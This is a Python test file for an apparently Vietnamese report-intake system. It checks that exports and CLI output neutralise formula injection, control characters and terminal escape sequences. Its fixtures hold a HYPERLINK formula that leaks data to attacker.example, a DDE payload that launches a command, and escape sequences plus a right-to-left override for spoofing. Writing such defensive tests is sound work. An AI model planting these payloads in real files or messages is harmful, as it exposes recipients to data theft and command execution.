"""§3 What leaves as files and screens: spreadsheets, Word files and terminals.

An agency's report carries a live formula in an indicator cell and control
characters in its text; a stranger's message has Rich markup and terminal
escape sequences in its subject. They go through the real daemon (Maildir in,
file outbox out) and then through the real `tdc-bot` commands a coordinator runs.
"""
from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default

import docx
import pytest
from openpyxl import load_workbook

from intake.sources.maildir import deliver
from tests.cli_helpers import cli_json, run_cli, write_config
from tests.test_compile import AGENCIES, YEAR, report_docx, report_email
from workflow.app import App
from workflow.runtime.daemon import Daemon

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm để xem")'
CONTROL = "Tây Ninh\x01 hỗ trợ\x0b 12 doanh nghiệp\x1b[2J.\x00"
SUBJECT = "[/x] hello [bold red]xin chào\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eexe.txt"


@pytest.fixture(scope="module")
def season(tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("outputs")
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'tdc.db'}")
    spec = AGENCIES["tay-ninh"]
    hostile = dict(spec, rows=[["1", FORMULA, "+Doanh nghiệp", "50", "12", "30", "60"],
                               ["2", "@SUM(1+1)*cmd|' /C calc'!A0", "-người", "1.000", "82", "400", "40"]])
    AGENCIES["tay-ninh-hostile"] = hostile
    try:
        msg = message_from_bytes(report_email("tay-ninh-hostile"), policy=default)
    finally:
        del AGENCIES["tay-ninh-hostile"]
    # Word cannot hold control characters, a text annex can (so can PDF and .doc text).
    annex = "\n".join(f"{h}\n{t} {CONTROL}" if t else h for h, t in spec["sections"])
    msg.add_attachment(annex.encode("utf-8"), maintype="text", subtype="plain", filename="Phụ lục.txt")
    deliver(tmp_path / "mail", msg.as_bytes(), when=spec["arrived"])
    # No From address: quarantined, and its subject is shown by `quarantine list`.
    stranger = (f"To: baocao@tdc.example.vn\r\nSubject: {SUBJECT}\r\n"
                "Content-Type: text/plain; charset=utf-8\r\n\r\nxin chao\r\n").encode()
    deliver(tmp_path / "mail", stranger, when=datetime(2024, 11, 21, 2, 0, tzinfo=UTC))
    # A report from an unknown address that names no agency: it waits in `review list`.
    unplaced = EmailMessage()
    unplaced["From"], unplaced["To"] = "nguoila@gmail.com", "baocao@tdc.example.vn"
    unplaced["Subject"] = "[/x] Báo cáo kết quả Chương trình 1322 năm 2024 \x1b]0;pwned\x07\x1b[31m"
    unplaced.set_content("Kính gửi Bộ KH&CN, gửi báo cáo kết quả thực hiện Chương trình năm 2024.")
    unplaced.add_attachment(report_docx("đơn vị", [(h, "") for h, _ in spec["sections"]], []),
                            maintype="application", subtype="octet-stream", filename="bao-cao.docx")
    deliver(tmp_path / "mail", unplaced.as_bytes(), when=datetime(2024, 11, 22, 2, 0, tzinfo=UTC))
    app = App.load(str(config))
    try:
        Daemon(app).run_once()
    finally:
        app.close()
    return tmp_path, config


def test_csv_export_neutralises_formulas_and_keeps_numbers(season):
    tmp_path, config = season
    run_cli("export", "--year", str(YEAR), "--format", "csv", "--out", str(tmp_path / "x"), config=config)
    with open(tmp_path / "x-indicators.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for v in row.values()]
    assert any(v == "'" + FORMULA for v in cells), cells
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    assert "'+Doanh nghiệp" in cells and "'-người" in cells
    assert "12" in cells and "1000" in cells  # numbers stay plain numbers


def test_xlsx_export_has_no_formula_cells(season):
    tmp_path, config = season
    out = tmp_path / "x.xlsx"
    run_cli("export", "--year", str(YEAR), "--format", "xlsx", "--out", str(out), config=config)
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + FORMULA for c in cells)
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert 12 in numbers and 1000 in numbers


def test_json_export_stays_exact(season):
    tmp_path, config = season
    data = json.loads(run_cli("export", "--year", str(YEAR), "--format", "json", "--out", "-", config=config).stdout)
    assert FORMULA in [r["indicator"] for r in data["indicators"]]


def test_compile_survives_control_characters(season):
    tmp_path, config = season
    out = tmp_path / "national.docx"
    run_cli("compile", "--year", str(YEAR), "--out", str(out), config=config)
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert "Tây Ninh hỗ trợ 12 doanh nghiệp" in text and "\x01" not in text


def test_digest_docx_survives_control_characters(tmp_path):
    from notifier.digest_docx import status_table_docx
    from workflow.season.status import StatusRow

    row = StatusRow(agency="x", name="Tỉnh\x02 X\x1b", kind="province", state="received",
                    received_at=datetime(2024, 11, 20, tzinfo=UTC), on_time=True, versions=1,
                    outline_missing=["I.1\x0c"], review_reasons=[])
    path = status_table_docx([row], 2024, datetime(2024, 11, 21).date(), tmp_path / "d.docx", annex="\x07")
    assert "Tỉnh X" in "".join(c.text for t in docx.Document(str(path)).tables for r in t.rows for c in r.cells)


@pytest.mark.parametrize("command",
                         [("quarantine", "list"), ("review", "list"), ("show", "1"), ("show", "2"), ("show", "3"),
                                     ("status", "--year", str(YEAR))])
def test_terminal_output_is_plain_text(season, command):
    tmp_path, config = season
    proc = run_cli(*command, config=config, env={"COLUMNS": "400"})
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "\x9b" not in proc.stdout
    assert "\u202e" not in proc.stdout and "\x01" not in proc.stdout
    assert "Traceback" not in proc.stderr and "MarkupError" not in proc.stderr


def test_review_list_shows_markup_literally(season):
    tmp_path, config = season
    shown = run_cli("review", "list", config=config, env={"COLUMNS": "400"}).stdout
    assert "[/x] Báo cáo" in shown and "\x1b" not in shown


def test_quarantine_list_shows_markup_literally_and_json_exactly(season):
    tmp_path, config = season
    shown = run_cli("quarantine", "list", config=config, env={"COLUMNS": "400"}).stdout
    assert "[/x] hello [bold red]xin chào" in shown
    rows = cli_json("quarantine", "list", config=config)
    assert any(r["subject"].startswith("[/x] hello") and "\x1b" in r["subject"] for r in rows)
